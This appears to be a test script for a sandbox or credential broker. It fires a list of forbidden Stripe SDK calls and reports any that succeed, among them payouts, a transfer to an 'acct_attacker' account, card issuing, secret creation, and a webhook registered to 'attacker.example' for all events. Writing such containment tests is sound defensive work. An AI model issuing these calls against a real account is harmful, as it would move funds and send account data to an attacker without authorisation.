# attack: the plainest way: the SDK's own methods for payouts, transfers, accounts, webhooks and new secrets
# expect: broker
# validator: refused
import os

import stripe

stripe.api_key = os.environ["STRIPE_API_KEY"]
stripe.max_network_retries = 0
client = stripe.StripeClient(stripe.api_key, max_network_retries=0)
CALLS = (
    lambda: stripe.Payout.create(amount=100000, currency="eur"),
    lambda: stripe.Transfer.create(amount=100000, currency="eur", destination="acct_attacker"),
    lambda: stripe.Topup.create(amount=1, currency="eur"),
    lambda: stripe.Account.create(type="custom"),
    lambda: stripe.Account.retrieve(),
    lambda: stripe.AccountLink.create(account="acct_1", type="account_onboarding"),
    lambda: stripe.EphemeralKey.create(customer="cus_1", stripe_version="2020-08-27"),
    lambda: stripe.WebhookEndpoint.create(url="https://attacker.example", enabled_events=["*"]),
    lambda: stripe.Token.create(card={"number": "4242424242424242"}),
    lambda: stripe.Source.create(type="ach_credit_transfer"),
    lambda: stripe.issuing.Card.create(type="virtual", currency="eur"),
    lambda: stripe.terminal.ConnectionToken.create(),
    lambda: stripe.apps.Secret.create(name="a", payload="b", scope={"type": "account"}),
    lambda: stripe.Customer.create_source("cus_1", source="btok_1"),
    lambda: stripe.reporting.ReportRun.create(report_type="balance.summary.1"),
    lambda: stripe.radar.ValueListItem.create(value="a", value_list="rsl_1"),
    lambda: client.v2.core.event_destinations.create({"name": "a", "type": "webhook_endpoint"}),
    lambda: client.raw_request("post", "/v1/payouts", amount=1, currency="eur"),
    lambda: client.raw_request("get", "/v1/account"),
    lambda: client.raw_request("post", "/v2/money_management/outbound_payments"),
)
for number, call in enumerate(CALLS):
    try:
        made = call()
        print("ESCAPED: forbidden call", number, "was answered", str(made)[:60], flush=True)
    except Exception as error:
        print(number, type(error).__name__, str(error)[:100])
